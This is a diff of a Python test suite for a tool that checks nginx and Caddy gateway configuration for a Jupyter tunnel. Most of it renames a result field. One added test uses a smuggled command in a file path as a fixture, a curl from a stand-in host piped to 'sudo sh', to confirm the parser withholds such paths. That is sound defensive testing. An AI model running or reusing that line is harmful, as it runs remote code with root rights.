@@ -77,7 +77,7 @@ def test_a_gateway_whose_web_servers_do_not_run(engine: SyncEngine, gateway: Web
     assert [str(address) for address in found.addresses] == [gateway.address]
     assert found.listening == frozenset()
     check = check_gateway(found, SITE)[0]
-    assert (check.verdict, check.details) == ("failed", ("sudo systemctl enable --now nginx",))
+    assert (check.verdict, check.typed) == ("failed", ("sudo systemctl enable --now nginx",))
     assert check_port_80(found).says == "Nobody listens on port 80 of gw."
 
 
@@ -133,7 +133,7 @@ def test_nginx_from_nothing_to_a_site(engine: SyncEngine, nginx: WebGateway) -> 
     assert failing(checks) == ["folder", "site"]
     for name in ("folder", "site"):
         assert checks[name].remedy == "site"
-        nginx.type(checks[name].details)
+        nginx.type(checks[name].typed)
     checks = verdicts(engine)
     assert failing(checks) == [], checks
     assert {check.verdict for check in checks.values()} == {"ok"}
@@ -145,7 +145,7 @@ def test_nginx_from_nothing_to_a_site(engine: SyncEngine, nginx: WebGateway) -> 
 def shown(engine: SyncEngine, nginx: WebGateway) -> WebGateway:
     """nginx shows the site."""
     checks = verdicts(engine)
-    nginx.type([*checks["folder"].details, *checks["site"].details])
+    nginx.type([*checks["folder"].typed, *checks["site"].typed])
     assert failing(verdicts(engine)) == []
     return nginx
 
@@ -188,7 +188,7 @@ def test_a_site_that_was_altered(engine: SyncEngine, shown: WebGateway) -> None:
     site = verdicts(engine)["site"]
     assert site.says.startswith(f"{path} is not as it has to be: line ")
     assert "“client_max_body_size 1m;” in place of “client_max_body_size 0;”" in site.says
-    shown.type(site.details)
+    shown.type(site.typed)
     assert failing(verdicts(engine)) == []
     # For another account, and for a port in place of the socket, it is another one.
     assert failing(verdicts(engine, Site(NAME, "ann", port=8888, certificate=GIVEN))) == ["site"]
@@ -203,7 +203,7 @@ def test_a_site_that_cannot_be_read_or_is_no_site(engine: SyncEngine, shown: Web
     shown.type([f"printf '# {NAME} \\033[31m\\n{FENCE}end\\n' > {path}"])
     site = verdicts(engine)["site"]
     assert f"line 1 is “# {NAME} [31m” in place of" in site.says
-    shown.type(site.details)
+    shown.type(site.typed)
     assert failing(verdicts(engine)) == []
 
 
@@ -211,7 +211,7 @@ def test_a_site_that_is_not_enabled(engine: SyncEngine, shown: WebGateway) -> No
     shown.type(["rm /etc/nginx/sites-enabled/jupyter-remote-tunnel-*"])
     site = verdicts(engine)["site"]
     assert "is there, and not among /etc/nginx/sites-enabled" in site.says
-    shown.type(site.details)
+    shown.type(site.typed)
     assert failing(verdicts(engine)) == []
 
 
@@ -220,7 +220,7 @@ def test_another_site_of_that_name(engine: SyncEngine, shown: WebGateway) -> Non
     names = f"example.org {NAME} www.example.org"
     shown.type([f"echo 'server {{ listen 80; server_name {names}; }}' > {other}"])
     check = verdicts(engine)["other site"]
-    assert (check.verdict, check.details) == ("failed", (other,))
+    assert (check.verdict, check.details, check.typed) == ("failed", (other,), ())
     assert certificate_commands(seen(engine), Site(NAME, "ann")) == (
         "sudo apt install certbot python3-certbot-nginx",
         f"sudo certbot certonly --nginx -d {NAME} --deploy-hook 'nginx -s reload'",
@@ -248,7 +248,7 @@ def test_a_folder_with_other_rights(
     folder = verdicts(engine)["folder"]
     assert folder.verdict == "failed"
     assert re.search(says, folder.says)
-    shown.type(folder.details)
+    shown.type(folder.typed)
     assert failing(verdicts(engine)) == []
 
 
@@ -282,7 +282,7 @@ def test_caddy_from_nothing_to_a_site(engine: SyncEngine, caddy: WebGateway) -> 
     checks = verdicts(engine, wanted="caddy")
     assert failing(checks) == ["folder", "site"]
     for name in ("folder", "site"):
-        caddy.type(checks[name].details)
+        caddy.type(checks[name].typed)
     checks = verdicts(engine, wanted="caddy")
     assert failing(checks) == [], checks
     assert checks["folder"].verdict == "ok"
@@ -293,7 +293,7 @@ def test_caddy_from_nothing_to_a_site(engine: SyncEngine, caddy: WebGateway) -> 
     caddy.type(["sed -i '/^import sites/d' /etc/caddy/Caddyfile"])
     site = verdicts(engine)["site"]
     assert "does not name that folder" in site.says
-    caddy.type(site.details)
+    caddy.type(site.typed)
     assert failing(verdicts(engine)) == []
 
 
@@ -318,9 +318,9 @@ def test_the_text_is_left_in_the_home(engine: SyncEngine, shown: WebGateway) -> 
     checks = check_gateway(seen(engine), SITE, left_at=path)
     [site] = [check for check in checks if check.name == "site"]
     install = f"sudo install -m 0644 /dev/stdin {installed}"
-    assert f"sudo -u ann cat {path} | {install}" in site.details
-    assert len(site.details) == 3, "no text of a site"
-    shown.type(site.details)
+    assert f"sudo -u ann cat {path} | {install}" in site.typed
+    assert len(site.typed) == 3, "no text of a site"
+    shown.type(site.typed)
     assert failing(verdicts(engine)) == []
 
 
@@ -354,6 +354,13 @@ def records(**changes: str) -> bytes:
     """What a gateway answers, of which some records are other ones."""
     said = {"account": "ann\n1000\n", "kernel": "Linux\n", "end": "", **changes}
     return "".join(f"{FENCE}{name}\n{value}" for name, value in said.items()).encode()
+
+
+def test_a_file_with_another_site_whose_path_is_no_plain_one() -> None:
+    """That it is there is said, and not what it is called."""
+    strange = "/etc/nginx/x; curl -s https://stranger.invalid/i | sudo sh #"
+    found = parse(records(claimed=f"/etc/nginx/conf.d/a.conf\n{strange}\n{strange}1\n"), "gw")
+    assert found.claimed == ("/etc/nginx/conf.d/a.conf", "a file whose path is no plain one")
 
 
 @pytest.mark.parametrize(
@@ -402,7 +409,7 @@ def test_an_account_that_is_a_number(engine: SyncEngine, gateway: WebGateway) ->
 
 def test_a_gateway_without_a_web_server() -> None:
     (only,) = check_gateway(parse(records(), "gw"), SITE)
-    assert (only.verdict, only.details) == ("failed", ("sudo apt install nginx",))
+    assert (only.verdict, only.typed) == ("failed", ("sudo apt install nginx",))
     assert only.advice.endswith("Without one: jupyter tunnel publish --bind gw")
 
 
